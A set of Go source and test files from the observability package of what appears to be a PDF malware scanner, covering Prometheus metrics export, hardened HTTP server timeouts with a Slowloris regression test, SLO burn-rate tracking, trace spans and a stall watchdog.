		t.Fatalf("histogram round-trip mismatch: %+v", hs)
	}
}
