package obs

import (
	"context"
	"expvar"
	"fmt"
	"io"
	"net"
	"net/http"
	"strconv"
	"strings"
	"sync"
	"time"
)

// WritePrometheus renders the registry in the Prometheus text exposition
// format (version 0.0.4): one `# TYPE` line per metric family, series
// sorted by name, histograms expanded into cumulative `_bucket{le=...}`
// lines plus `_sum` and `_count`. Series names carrying an inline label
// block (see Series) are grouped under their base family name.
func (r *Registry) WritePrometheus(w io.Writer) error {
	snap := r.Snapshot()

	typed := make(map[string]string) // family -> TYPE already emitted
	emitType := func(sb *strings.Builder, family, kind string) {
		if typed[family] == kind {
			return
		}
		typed[family] = kind
		fmt.Fprintf(sb, "# TYPE %s %s\n", family, kind)
	}

	var sb strings.Builder
	for _, name := range sortedKeys(snap.Counters) {
		family, _ := SplitSeries(name)
		emitType(&sb, family, "counter")
		fmt.Fprintf(&sb, "%s %d\n", name, snap.Counters[name])
	}
	for _, name := range sortedKeys(snap.Gauges) {
		family, _ := SplitSeries(name)
		emitType(&sb, family, "gauge")
		fmt.Fprintf(&sb, "%s %s\n", name, formatFloat(snap.Gauges[name]))
	}
	for _, name := range sortedKeys(snap.Histograms) {
		family, labels := SplitSeries(name)
		emitType(&sb, family, "histogram")
		h := snap.Histograms[name]
		for _, b := range h.Buckets {
			fmt.Fprintf(&sb, "%s %d\n", withLabels(family+"_bucket", labels, "le=\""+formatFloat(b.UpperBound)+"\""), b.Count)
		}
		fmt.Fprintf(&sb, "%s %d\n", withLabels(family+"_bucket", labels, `le="+Inf"`), h.Count)
		fmt.Fprintf(&sb, "%s %s\n", withLabels(family+"_sum", labels, ""), formatFloat(h.SumSeconds))
		fmt.Fprintf(&sb, "%s %d\n", withLabels(family+"_count", labels, ""), h.Count)
	}
	_, err := io.WriteString(w, sb.String())
	return err
}

// withLabels renders `name{labels,extra}`, omitting the braces when both
// label fragments are empty.
func withLabels(name, labels, extra string) string {
	switch {
	case labels == "" && extra == "":
		return name
	case labels == "":
		return name + "{" + extra + "}"
	case extra == "":
		return name + "{" + labels + "}"
	default:
		return name + "{" + labels + "," + extra + "}"
	}
}

func formatFloat(v float64) string {
	return strconv.FormatFloat(v, 'g', -1, 64)
}

// Handler serves the Prometheus text format.
func (r *Registry) Handler() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
		_ = r.WritePrometheus(w)
	})
}

// publishedExpvars guards against expvar.Publish's panic on duplicate
// names (registries may be published once per process name).
var (
	publishMu       sync.Mutex
	publishedExpvar = make(map[string]bool)
)

// RegisterHTTP mounts the registry's observability endpoints on mux —
// /metrics (Prometheus text format) and /debug/vars (expvar JSON, with
// the registry snapshot published as "pdfshield") — and registers the Go
// runtime health series. ServeMetrics uses it for the stand-alone
// endpoint; servers with their own mux (pdfshield-serve) mount the same
// pair next to their application routes.
func (r *Registry) RegisterHTTP(mux *http.ServeMux) {
	r.RegisterRuntimeMetrics()
	RegisterBuildInfo(r)
	r.PublishExpvar("pdfshield")
	mux.Handle("/metrics", r.Handler())
	mux.Handle("/debug/vars", expvar.Handler())
}

// PublishExpvar exposes the registry's live Snapshot under the given
// expvar name (visible on any /debug/vars endpoint). Repeated calls with
// the same name are no-ops, so multiple Systems sharing a registry can
// all request publication.
func (r *Registry) PublishExpvar(name string) {
	publishMu.Lock()
	defer publishMu.Unlock()
	if publishedExpvar[name] {
		return
	}
	publishedExpvar[name] = true
	expvar.Publish(name, expvar.Func(func() any { return r.Snapshot() }))
}

// ServerTimeouts bounds the connection lifecycle of an HTTP listener.
// Every network-facing server in the system (the metrics endpoint, the
// ingestion daemon) is built through NewHTTPServer so a slow or stalled
// client can never hold a connection open indefinitely.
type ServerTimeouts struct {
	// ReadHeader bounds how long a client may take to send the request
	// headers — the Slowloris window.
	ReadHeader time.Duration
	// Read bounds the whole request read, body included.
	Read time.Duration
	// Write bounds the response write.
	Write time.Duration
	// Idle bounds how long a keep-alive connection may sit between
	// requests.
	Idle time.Duration
}

// DefaultServerTimeouts are the hardened defaults: tight on headers,
// generous enough on bodies for a multi-megabyte document upload.
func DefaultServerTimeouts() ServerTimeouts {
	return ServerTimeouts{
		ReadHeader: 10 * time.Second,
		Read:       time.Minute,
		Write:      time.Minute,
		Idle:       2 * time.Minute,
	}
}

// NewHTTPServer builds an http.Server with the connection-lifecycle
// timeouts applied (zero fields fall back to DefaultServerTimeouts).
func NewHTTPServer(handler http.Handler, t ServerTimeouts) *http.Server {
	def := DefaultServerTimeouts()
	if t.ReadHeader == 0 {
		t.ReadHeader = def.ReadHeader
	}
	if t.Read == 0 {
		t.Read = def.Read
	}
	if t.Write == 0 {
		t.Write = def.Write
	}
	if t.Idle == 0 {
		t.Idle = def.Idle
	}
	return &http.Server{
		Handler:           handler,
		ReadHeaderTimeout: t.ReadHeader,
		ReadTimeout:       t.Read,
		WriteTimeout:      t.Write,
		IdleTimeout:       t.Idle,
	}
}

// MetricsServer is a running metrics endpoint (see ServeMetrics).
type MetricsServer struct {
	// Addr is the bound listen address (useful with ":0").
	Addr string
	srv  *http.Server
	done chan struct{}
}

// closeGrace bounds how long Close waits for in-flight scrapes before
// dropping their connections.
const closeGrace = 5 * time.Second

// Shutdown stops the endpoint gracefully: the listener closes at once,
// in-flight scrapes finish, and only when ctx ends are the survivors'
// connections dropped.
func (m *MetricsServer) Shutdown(ctx context.Context) error {
	err := m.srv.Shutdown(ctx)
	if err != nil {
		// Deadline hit with requests still in flight: drop them.
		_ = m.srv.Close()
	}
	<-m.done
	return err
}

// Close shuts the endpoint down, letting in-flight scrapes finish (a
// scrape racing a shutdown used to get its connection cut mid-response).
// Handlers still running after a short grace period are dropped.
func (m *MetricsServer) Close() error {
	ctx, cancel := context.WithTimeout(context.Background(), closeGrace)
	defer cancel()
	return m.Shutdown(ctx)
}

// ServeMetrics starts an HTTP listener exposing the registry:
//
//	/metrics     Prometheus text format
//	/debug/vars  expvar JSON (includes the registry snapshot under
//	             "pdfshield" plus the Go runtime's standard vars)
//
// Go runtime health series (goroutines, heap, GC — see
// RegisterRuntimeMetrics) are registered automatically, so a -metrics-addr
// scrape answers "is the scanner healthy" without pprof. The server runs
// until Close. This is what the CLIs' -metrics-addr flag mounts.
func (r *Registry) ServeMetrics(addr string) (*MetricsServer, error) {
	return r.serveMetrics(addr, nil)
}

// serveMetrics builds and starts the metrics endpoint, letting the
// caller mount extra handlers on the mux (see ServeMetricsDiag).
func (r *Registry) serveMetrics(addr string, extra func(mux *http.ServeMux)) (*MetricsServer, error) {
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return nil, fmt.Errorf("obs: metrics listener: %w", err)
	}
	mux := http.NewServeMux()
	r.RegisterHTTP(mux)
	if extra != nil {
		extra(mux)
	}
	srv := NewHTTPServer(mux, ServerTimeouts{})
	m := &MetricsServer{Addr: ln.Addr().String(), srv: srv, done: make(chan struct{})}
	go func() {
		defer close(m.done)
		_ = srv.Serve(ln)
	}()
	return m, nil
}
