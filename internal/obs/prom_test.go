package obs

import (
	"io"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"
)

// TestNewHTTPServerAppliesTimeouts: zero fields take the hardened
// defaults, explicit fields are preserved.
func TestNewHTTPServerAppliesTimeouts(t *testing.T) {
	def := DefaultServerTimeouts()
	srv := NewHTTPServer(http.NewServeMux(), ServerTimeouts{})
	if srv.ReadHeaderTimeout != def.ReadHeader || srv.ReadTimeout != def.Read ||
		srv.WriteTimeout != def.Write || srv.IdleTimeout != def.Idle {
		t.Errorf("zero-config server timeouts (%v %v %v %v) != defaults (%v %v %v %v)",
			srv.ReadHeaderTimeout, srv.ReadTimeout, srv.WriteTimeout, srv.IdleTimeout,
			def.ReadHeader, def.Read, def.Write, def.Idle)
	}
	custom := ServerTimeouts{ReadHeader: time.Second, Read: 2 * time.Second, Write: 3 * time.Second, Idle: 4 * time.Second}
	srv = NewHTTPServer(http.NewServeMux(), custom)
	if srv.ReadHeaderTimeout != custom.ReadHeader || srv.ReadTimeout != custom.Read ||
		srv.WriteTimeout != custom.Write || srv.IdleTimeout != custom.Idle {
		t.Error("explicit timeouts not preserved")
	}
	if def.ReadHeader <= 0 || def.Read <= 0 || def.Write <= 0 || def.Idle <= 0 {
		t.Errorf("a default timeout is unset: %+v — Slowloris window reopened", def)
	}
}

// TestSlowClientConnectionClosed is the Slowloris regression test: the
// metrics endpoint used to run a bare http.Server with no timeouts, so a
// client that opened a connection and never sent headers held it forever.
// A hardened server must cut such a connection once ReadHeaderTimeout
// lapses.
func TestSlowClientConnectionClosed(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := NewHTTPServer(http.NewServeMux(), ServerTimeouts{ReadHeader: 100 * time.Millisecond})
	go func() { _ = srv.Serve(ln) }()
	defer srv.Close()

	conn, err := net.Dial("tcp", ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	// Send nothing. The server must close the connection — observed as
	// EOF/reset on read — well before the test deadline.
	_ = conn.SetReadDeadline(time.Now().Add(5 * time.Second))
	buf := make([]byte, 1)
	if _, err := conn.Read(buf); err == nil {
		t.Fatal("server answered a request that was never sent")
	} else if ne, ok := err.(net.Error); ok && ne.Timeout() {
		t.Fatal("connection still open 5s after ReadHeaderTimeout: Slowloris window")
	}
}

// TestMetricsServerGracefulClose is the dropped-scrape regression test:
// Close() used to call http.Server.Close, cutting an in-flight /metrics
// response mid-body. Close must now let the in-flight scrape finish
// (verified by blocking the scrape inside a CounterFunc callback while
// Close runs) and only then return.
func TestMetricsServerGracefulClose(t *testing.T) {
	reg := NewRegistry()
	entered := make(chan struct{})
	release := make(chan struct{})
	var once bool
	reg.CounterFunc("pdfshield_test_blocking_total", func() float64 {
		if !once {
			once = true
			close(entered)
			<-release
		}
		return 42
	})
	m, err := reg.ServeMetrics("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}

	type scrape struct {
		status int
		body   string
		err    error
	}
	got := make(chan scrape, 1)
	go func() {
		resp, err := http.Get("http://" + m.Addr + "/metrics")
		if err != nil {
			got <- scrape{err: err}
			return
		}
		body, err := io.ReadAll(resp.Body)
		_ = resp.Body.Close()
		got <- scrape{status: resp.StatusCode, body: string(body), err: err}
	}()
	<-entered // the scrape is now in flight, blocked in the render

	closed := make(chan error, 1)
	go func() { closed <- m.Close() }()
	select {
	case err := <-closed:
		t.Fatalf("Close returned (%v) while a scrape was in flight", err)
	case <-time.After(100 * time.Millisecond):
	}

	close(release)
	if err := <-closed; err != nil {
		t.Fatalf("Close: %v", err)
	}
	s := <-got
	if s.err != nil {
		t.Fatalf("in-flight scrape cut by Close: %v", s.err)
	}
	if s.status != http.StatusOK || !strings.Contains(s.body, "pdfshield_test_blocking_total 42") {
		t.Errorf("scrape racing Close got status %d, body %q", s.status, s.body)
	}
}
