package obs

import "runtime"

// Go runtime health series (callback-backed; see RegisterRuntimeMetrics).
// These answer "is the scanner process healthy" from a plain /metrics
// scrape — goroutine leaks, heap growth and GC pressure — without
// attaching pprof (which is opt-in: see RegisterPprof and the -pprof
// flag on the CLIs).
const (
	MetricGoGoroutines = "pdfshield_go_goroutines"
	MetricGoHeapBytes  = "pdfshield_go_heap_alloc_bytes"
	MetricGoSysBytes   = "pdfshield_go_sys_bytes"
	// MetricGoGCPauseTotal is in integer nanoseconds: the registry's
	// callback counters fold to uint64, and sub-second totals would
	// truncate to zero if reported in seconds.
	MetricGoGCPauseTotal = "pdfshield_go_gc_pause_ns_total"
	MetricGoGCCycles     = "pdfshield_go_gc_cycles_total"
)

// RegisterRuntimeMetrics installs callback-backed gauges and counters for
// the Go runtime: live goroutines, heap in use, total memory obtained
// from the OS, cumulative GC pause time and completed GC cycles. Values
// are read at snapshot/scrape time. Idempotent (re-registration replaces
// the callbacks), so every ServeMetrics call may request it.
func (r *Registry) RegisterRuntimeMetrics() {
	if r == nil {
		return
	}
	r.GaugeFunc(MetricGoGoroutines, func() float64 {
		return float64(runtime.NumGoroutine())
	})
	r.GaugeFunc(MetricGoHeapBytes, func() float64 {
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		return float64(m.HeapAlloc)
	})
	r.GaugeFunc(MetricGoSysBytes, func() float64 {
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		return float64(m.Sys)
	})
	r.CounterFunc(MetricGoGCPauseTotal, func() float64 {
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		return float64(m.PauseTotalNs)
	})
	r.CounterFunc(MetricGoGCCycles, func() float64 {
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		return float64(m.NumGC)
	})
}
