package obs

import (
	"sync"
	"time"
)

// SLOObjective declares one latency objective: Target of documents
// matching (Depth, Route) must complete within Latency. Empty Depth or
// Route matches any value; objectives are evaluated in order and the
// first match wins, so specific objectives precede catch-alls.
type SLOObjective struct {
	// Name identifies the objective in metrics (the "slo" label) and
	// debug output.
	Name string `json:"name"`
	// Depth matches the submission's resolved scan depth ("" = any).
	Depth string `json:"depth,omitempty"`
	// Route matches the static triage route ("" = any).
	Route string `json:"route,omitempty"`
	// Latency is the objective's latency bound.
	Latency time.Duration `json:"latency_ns"`
	// Target is the fraction of observations that must meet the bound,
	// in (0,1) — e.g. 0.99. The error budget is 1 - Target.
	Target float64 `json:"target"`
}

// DefaultSLOs returns the stock objectives: per-depth latency bounds
// scaled to each tier's cost (deep scans run ~78× a standard open, so
// their bound is minutes where the static tier's is milliseconds), plus
// a catch-all for submissions that errored before a depth resolved.
func DefaultSLOs() []SLOObjective {
	return []SLOObjective{
		{Name: "static-fast", Depth: "static", Latency: 250 * time.Millisecond, Target: 0.99},
		{Name: "standard-open", Depth: "standard", Latency: 2 * time.Second, Target: 0.99},
		{Name: "deep-scan", Depth: "deep", Latency: 2 * time.Minute, Target: 0.95},
		{Name: "all-docs", Latency: 5 * time.Second, Target: 0.999},
	}
}

// Defaults applied by NewSLOTracker when the corresponding field of
// SLOConfig is zero.
const (
	DefaultSLOWindow = 10 * time.Minute
	defaultSLOSlots  = 10
)

// SLOConfig tunes an SLOTracker.
type SLOConfig struct {
	// Objectives are evaluated first-match-wins per observation
	// (nil = DefaultSLOs).
	Objectives []SLOObjective
	// Window is the rolling window over which burn rates are computed
	// (0 = DefaultSLOWindow). The window is tracked in defaultSLOSlots
	// rotating slots, so expiry granularity is Window/slots.
	Window time.Duration
}

// sloSlot is one time-bucket of an objective's rolling window.
type sloSlot struct {
	epoch    int64 // slot validity marker: unix-nano slot index
	observed uint64
	breached uint64
}

// sloState is one objective's live accounting.
type sloState struct {
	obj SLOObjective
	// lifetime totals (monotonic counters).
	observed uint64
	breached uint64
	// rolling window.
	slots [defaultSLOSlots]sloSlot
}

// SLOTracker scores per-document latency observations against a set of
// declarative objectives and tracks each objective's error-budget burn
// rate over a rolling window. A burn rate of 1.0 means the objective is
// consuming its error budget exactly as fast as allowed; sustained
// values above ~1 forecast the budget exhausting before the window
// turns over. All methods are nil-safe and safe for concurrent use.
type SLOTracker struct {
	mu     sync.Mutex
	states []*sloState
	window time.Duration
	slotNs int64

	// nowFn is injectable for tests.
	nowFn func() time.Time
}

// NewSLOTracker builds a tracker.
func NewSLOTracker(cfg SLOConfig) *SLOTracker {
	if cfg.Objectives == nil {
		cfg.Objectives = DefaultSLOs()
	}
	if cfg.Window <= 0 {
		cfg.Window = DefaultSLOWindow
	}
	t := &SLOTracker{
		window: cfg.Window,
		slotNs: cfg.Window.Nanoseconds() / defaultSLOSlots,
		nowFn:  time.Now,
	}
	if t.slotNs <= 0 {
		t.slotNs = 1
	}
	for _, obj := range cfg.Objectives {
		if obj.Target <= 0 || obj.Target >= 1 || obj.Latency <= 0 || obj.Name == "" {
			continue
		}
		t.states = append(t.states, &sloState{obj: obj})
	}
	return t
}

// match reports whether an objective covers a (depth, route) pair.
func (o SLOObjective) match(depth, route string) bool {
	return (o.Depth == "" || o.Depth == depth) && (o.Route == "" || o.Route == route)
}

// Observe scores one completed submission against the first matching
// objective. failed marks submissions that ended in error — they breach
// their objective regardless of latency (an SLO is about successful
// responses in time, and a fast error is not success).
func (t *SLOTracker) Observe(depth, route string, total time.Duration, failed bool) {
	if t == nil {
		return
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	epoch := t.nowFn().UnixNano() / t.slotNs
	for _, st := range t.states {
		if !st.obj.match(depth, route) {
			continue
		}
		breach := failed || total > st.obj.Latency
		st.observed++
		if breach {
			st.breached++
		}
		slot := &st.slots[epoch%defaultSLOSlots]
		if slot.epoch != epoch {
			slot.epoch = epoch
			slot.observed = 0
			slot.breached = 0
		}
		slot.observed++
		if breach {
			slot.breached++
		}
		return
	}
}

// SLOStatus is one objective's live state.
type SLOStatus struct {
	Objective SLOObjective `json:"objective"`
	// Observed and Breached are lifetime totals.
	Observed uint64 `json:"observed"`
	Breached uint64 `json:"breached"`
	// WindowObserved and WindowBreached cover the rolling window.
	WindowObserved uint64 `json:"window_observed"`
	WindowBreached uint64 `json:"window_breached"`
	// BurnRate is the window breach rate divided by the error budget
	// (1 - target): 0 = no budget spent, 1 = burning exactly at the
	// allowed rate, >1 = on course to exhaust the budget.
	BurnRate float64 `json:"burn_rate"`
}

// Status snapshots every objective.
func (t *SLOTracker) Status() []SLOStatus {
	if t == nil {
		return nil
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	epoch := t.nowFn().UnixNano() / t.slotNs
	out := make([]SLOStatus, 0, len(t.states))
	for _, st := range t.states {
		s := SLOStatus{Objective: st.obj, Observed: st.observed, Breached: st.breached}
		for i := range st.slots {
			slot := st.slots[i]
			// A slot is live when its epoch falls inside the window.
			if slot.epoch > epoch-defaultSLOSlots && slot.epoch <= epoch {
				s.WindowObserved += slot.observed
				s.WindowBreached += slot.breached
			}
		}
		if s.WindowObserved > 0 {
			breachRate := float64(s.WindowBreached) / float64(s.WindowObserved)
			s.BurnRate = breachRate / (1 - st.obj.Target)
		}
		out = append(out, s)
	}
	return out
}

// Register exports the tracker into a registry: one burn-rate gauge and
// lifetime observed/breached counters per objective, all labelled by
// objective name. Callback-backed, so scrapes always see live values.
func (t *SLOTracker) Register(reg *Registry) {
	if t == nil || reg == nil {
		return
	}
	for _, st := range t.states {
		st := st
		name := st.obj.Name
		reg.GaugeFunc(Series(MetricSLOBurnRate, "slo", name), func() float64 {
			for _, s := range t.Status() {
				if s.Objective.Name == name {
					return s.BurnRate
				}
			}
			return 0
		})
		reg.CounterFunc(Series(MetricSLOObserved, "slo", name), func() float64 {
			t.mu.Lock()
			defer t.mu.Unlock()
			return float64(st.observed)
		})
		reg.CounterFunc(Series(MetricSLOBreaches, "slo", name), func() float64 {
			t.mu.Lock()
			defer t.mu.Unlock()
			return float64(st.breached)
		})
	}
}
