package obs

import "time"

// Trace outcome values (Trace.Outcome).
const (
	OutcomeMalicious    = "malicious"
	OutcomeBenign       = "benign"
	OutcomeCrashed      = "crashed"
	OutcomeNoJavaScript = "no-javascript"
)

// Trace cache annotations (Trace.Cache). Empty means the system ran
// without a front-end cache.
const (
	CacheMiss   = "miss"
	CacheHit    = "hit"
	CacheShared = "shared"
)

// Span is one timed phase of a document's journey through the pipeline.
// Offsets are relative to the trace's StartTime, so spans order and nest
// without wall-clock comparisons; both fields marshal as nanoseconds.
type Span struct {
	Phase string `json:"phase"`
	// Start is the span's offset from Trace.StartTime.
	Start time.Duration `json:"start_ns"`
	// Duration is the span's length.
	Duration time.Duration `json:"duration_ns"`
}

// End is the span's end offset from Trace.StartTime.
func (s Span) End() time.Duration { return s.Start + s.Duration }

// Trace is the ordered phase timeline of one document submission,
// attached to its Verdict. A trace is built by a single goroutine (the
// worker processing the document) and is immutable once the verdict is
// returned; it is not safe for concurrent mutation.
type Trace struct {
	DocID     string    `json:"doc_id"`
	StartTime time.Time `json:"start_time"`
	// Cache annotates how the front-end was satisfied: CacheHit /
	// CacheShared / CacheMiss, or "" when no cache is configured.
	Cache string `json:"cache,omitempty"`
	// Outcome is the verdict classification (Outcome* constants).
	Outcome string `json:"outcome,omitempty"`
	// Spans is the phase timeline in execution order.
	Spans []Span `json:"spans,omitempty"`
}

// StartTrace begins a trace for one document submission.
func StartTrace(docID string) *Trace {
	return &Trace{DocID: docID, StartTime: time.Now()}
}

// AddSpan appends a span with an explicit offset and duration (used to
// replay the front-end's internally measured PhaseTiming into the
// timeline).
func (t *Trace) AddSpan(phase string, start, duration time.Duration) {
	t.Spans = append(t.Spans, Span{Phase: phase, Start: start, Duration: duration})
}

// StartSpan opens a wall-clock span; the returned func closes it and
// appends it to the timeline.
func (t *Trace) StartSpan(phase string) (end func()) {
	begin := time.Now()
	return func() {
		t.Spans = append(t.Spans, Span{
			Phase:    phase,
			Start:    begin.Sub(t.StartTime),
			Duration: time.Since(begin),
		})
	}
}

// Offset converts an absolute time to this trace's offset base.
func (t *Trace) Offset(at time.Time) time.Duration { return at.Sub(t.StartTime) }

// Total is the elapsed time from trace start to the end of the last span
// (0 for an empty trace).
func (t *Trace) Total() time.Duration {
	var max time.Duration
	for _, s := range t.Spans {
		if e := s.End(); e > max {
			max = e
		}
	}
	return max
}
