package obs

import "time"

// Trace outcome values (Trace.Outcome).
const (
	OutcomeMalicious    = "malicious"
	OutcomeBenign       = "benign"
	OutcomeCrashed      = "crashed"
	OutcomeNoJavaScript = "no-javascript"
	// OutcomeErrored marks a submission that ended in a terminal error
	// (hostile parse failure, contained analysis panic); the error text is
	// in Trace.Error. Errored traces carry no verdict, but the flight
	// recorder retains them — they are exactly the documents an operator
	// wants to pull afterwards.
	OutcomeErrored = "errored"
)

// Trace cache annotations (Trace.Cache). Empty means the system ran
// without a front-end cache.
const (
	CacheMiss   = "miss"
	CacheHit    = "hit"
	CacheShared = "shared"
)

// Span is one timed phase of a document's journey through the pipeline.
// Offsets are relative to the trace's StartTime, so spans order and nest
// without wall-clock comparisons; both fields marshal as nanoseconds.
type Span struct {
	Phase string `json:"phase"`
	// Start is the span's offset from Trace.StartTime.
	Start time.Duration `json:"start_ns"`
	// Duration is the span's length.
	Duration time.Duration `json:"duration_ns"`
}

// End is the span's end offset from Trace.StartTime.
func (s Span) End() time.Duration { return s.Start + s.Duration }

// Trace is the ordered phase timeline of one document submission,
// attached to its Verdict. A trace is built by a single goroutine (the
// worker processing the document) and is immutable once the verdict is
// returned; it is not safe for concurrent mutation.
type Trace struct {
	DocID     string    `json:"doc_id"`
	StartTime time.Time `json:"start_time"`
	// Cache annotates how the front-end was satisfied: CacheHit /
	// CacheShared / CacheMiss, or "" when no cache is configured.
	Cache string `json:"cache,omitempty"`
	// Outcome is the verdict classification (Outcome* constants).
	Outcome string `json:"outcome,omitempty"`
	// Depth is the resolved scan depth the submission ran at
	// (static/standard/deep/auto; "" on traces that errored before the
	// depth resolved).
	Depth string `json:"depth,omitempty"`
	// Route is the static triage tier's routing decision ("" when triage
	// did not run).
	Route string `json:"route,omitempty"`
	// Error is the terminal error text for errored submissions.
	Error string `json:"error,omitempty"`
	// DeepPaths counts the forced-execution paths explored for this
	// document (0 when no deep scan ran).
	DeepPaths int `json:"deepscan_paths,omitempty"`
	// Spans is the phase timeline in execution order.
	Spans []Span `json:"spans,omitempty"`

	// watch is the stall watchdog's in-flight handle (nil when no
	// watchdog observes this submission); MarkPhase forwards to it.
	watch *InflightDoc
}

// StartTrace begins a trace for one document submission.
func StartTrace(docID string) *Trace {
	return &Trace{DocID: docID, StartTime: time.Now()}
}

// AddSpan appends a span with an explicit offset and duration (used to
// replay the front-end's internally measured PhaseTiming into the
// timeline).
func (t *Trace) AddSpan(phase string, start, duration time.Duration) {
	t.Spans = append(t.Spans, Span{Phase: phase, Start: start, Duration: duration})
}

// StartSpan opens a wall-clock span; the returned func closes it and
// appends it to the timeline.
func (t *Trace) StartSpan(phase string) (end func()) {
	begin := time.Now()
	return func() {
		t.Spans = append(t.Spans, Span{
			Phase:    phase,
			Start:    begin.Sub(t.StartTime),
			Duration: time.Since(begin),
		})
	}
}

// Watch attaches a stall watchdog's in-flight handle: subsequent
// MarkPhase calls update the watchdog's view of where the document is.
func (t *Trace) Watch(d *InflightDoc) { t.watch = d }

// MarkPhase tells the attached watchdog (if any) which phase the
// document is entering. Pipeline code calls it at phase boundaries; the
// trace itself only records spans once they complete, so this is the
// watchdog's only view of a phase still in flight.
func (t *Trace) MarkPhase(phase string) { t.watch.Phase(phase) }

// Offset converts an absolute time to this trace's offset base.
func (t *Trace) Offset(at time.Time) time.Duration { return at.Sub(t.StartTime) }

// Total is the elapsed time from trace start to the end of the last span
// (0 for an empty trace).
func (t *Trace) Total() time.Duration {
	var max time.Duration
	for _, s := range t.Spans {
		if e := s.End(); e > max {
			max = e
		}
	}
	return max
}
