package obs

import (
	"encoding/json"
	"testing"
	"time"
)

// TestTraceSpanOrdering builds a timeline the way the pipeline does —
// replayed front-end offsets followed by wall-clock spans — and checks
// the spans come out in execution order with consistent offsets.
func TestTraceSpanOrdering(t *testing.T) {
	tr := StartTrace("doc-1")
	tr.AddSpan(PhaseParse, 0, 2*time.Millisecond)
	tr.AddSpan(PhaseAnalyze, 2*time.Millisecond, time.Millisecond)
	tr.AddSpan(PhaseInstrument, 3*time.Millisecond, 4*time.Millisecond)
	end := tr.StartSpan(PhaseOpen)
	time.Sleep(time.Millisecond)
	end()

	want := []string{PhaseParse, PhaseAnalyze, PhaseInstrument, PhaseOpen}
	if len(tr.Spans) != len(want) {
		t.Fatalf("%d spans, want %d", len(tr.Spans), len(want))
	}
	for i, s := range tr.Spans {
		if s.Phase != want[i] {
			t.Errorf("span %d phase = %q, want %q", i, s.Phase, want[i])
		}
	}
	// The replayed spans carry explicit offsets and must be monotonic;
	// the wall-clock open span's offset is measured against StartTrace and
	// only needs to be non-negative.
	for i := 1; i < 3; i++ {
		if tr.Spans[i].Start < tr.Spans[i-1].End() {
			t.Errorf("span %q starts before its predecessor ends", tr.Spans[i].Phase)
		}
	}
	if tr.Spans[3].Start < 0 {
		t.Errorf("wall-clock span offset negative: %v", tr.Spans[3].Start)
	}
	if tr.Spans[1].End() != 3*time.Millisecond {
		t.Errorf("analyze End() = %v, want 3ms", tr.Spans[1].End())
	}
	if tr.Total() < 7*time.Millisecond {
		t.Errorf("Total() = %v, want >= 7ms", tr.Total())
	}
	if open := tr.Spans[3]; open.Duration < time.Millisecond {
		t.Errorf("open span duration = %v, want >= 1ms", open.Duration)
	}
}

// TestTraceJSONRoundTrip: traces ride on public verdicts, so their JSON
// form must survive a marshal/unmarshal cycle bit-for-bit.
func TestTraceJSONRoundTrip(t *testing.T) {
	tr := StartTrace("doc-7")
	tr.Cache = CacheHit
	tr.Outcome = OutcomeMalicious
	tr.AddSpan(PhaseFrontEnd, 0, 5*time.Microsecond)
	tr.AddSpan(PhaseOpen, 5*time.Microsecond, 40*time.Microsecond)
	tr.AddSpan(PhaseDetect, 45*time.Microsecond, 10*time.Microsecond)

	data, err := json.Marshal(tr)
	if err != nil {
		t.Fatal(err)
	}
	var back Trace
	if err := json.Unmarshal(data, &back); err != nil {
		t.Fatal(err)
	}
	if back.DocID != tr.DocID || back.Cache != tr.Cache || back.Outcome != tr.Outcome {
		t.Fatalf("annotation mismatch: %+v", back)
	}
	if !back.StartTime.Equal(tr.StartTime) {
		t.Errorf("start time %v != %v", back.StartTime, tr.StartTime)
	}
	if len(back.Spans) != 3 {
		t.Fatalf("%d spans after round-trip, want 3", len(back.Spans))
	}
	for i, s := range back.Spans {
		if s != tr.Spans[i] {
			t.Errorf("span %d = %+v, want %+v", i, s, tr.Spans[i])
		}
	}
	if back.Total() != 55*time.Microsecond {
		t.Errorf("Total() = %v, want 55µs", back.Total())
	}
}
