package obs

import (
	"runtime"
	"sync"
	"time"
)

// Defaults applied by NewWatchdog when the corresponding WatchdogConfig
// field is zero.
const (
	DefaultStallDeadline = 30 * time.Second
	DefaultStallInterval = 1 * time.Second
	DefaultMaxStalls     = 32
	DefaultStackBytes    = 256 << 10
)

// WatchdogConfig tunes the stall watchdog.
type WatchdogConfig struct {
	// Deadline is how long a document may sit in a watched phase before
	// it is flagged as stalled (0 = DefaultStallDeadline).
	Deadline time.Duration
	// Interval is the background scan period (0 = DefaultStallInterval).
	Interval time.Duration
	// Phases restricts stall detection to the named phases (nil = the
	// reader-runtime phases, open and detect — the only ones where a
	// hostile document can wedge the sandbox; front-end phases are pure
	// Go and bounded).
	Phases []string
	// MaxStalls bounds the retained stall reports (0 = DefaultMaxStalls).
	MaxStalls int
	// StackBytes bounds each captured goroutine dump
	// (0 = DefaultStackBytes).
	StackBytes int
	// Context, when set, fetches out-of-band context for a stalled
	// document — the pipeline wires it to the journal's recent events for
	// the doc. The value is embedded verbatim in the stall report's JSON.
	Context func(docID string) any
	// Obs receives MetricWatchdogStalls; nil-safe.
	Obs *Registry
}

// InflightDoc is the watchdog's handle on one in-flight document. The
// processing goroutine updates it through Trace.MarkPhase at phase
// boundaries and releases it with Done; the watchdog's scan loop reads
// it concurrently. All methods are nil-safe so unwatched pipelines pay
// only a nil check.
type InflightDoc struct {
	wd    *Watchdog
	docID string

	mu      sync.Mutex
	phase   string
	since   time.Time // when the current phase began
	flagged bool      // already reported stalled in this phase
	done    bool
}

// Phase records that the document is entering a phase, resetting its
// stall clock.
func (d *InflightDoc) Phase(phase string) {
	if d == nil {
		return
	}
	d.mu.Lock()
	d.phase = phase
	d.since = d.wd.now()
	d.flagged = false
	d.mu.Unlock()
}

// Done releases the handle; the watchdog stops considering the document.
func (d *InflightDoc) Done() {
	if d == nil {
		return
	}
	d.mu.Lock()
	d.done = true
	d.mu.Unlock()
	d.wd.remove(d)
}

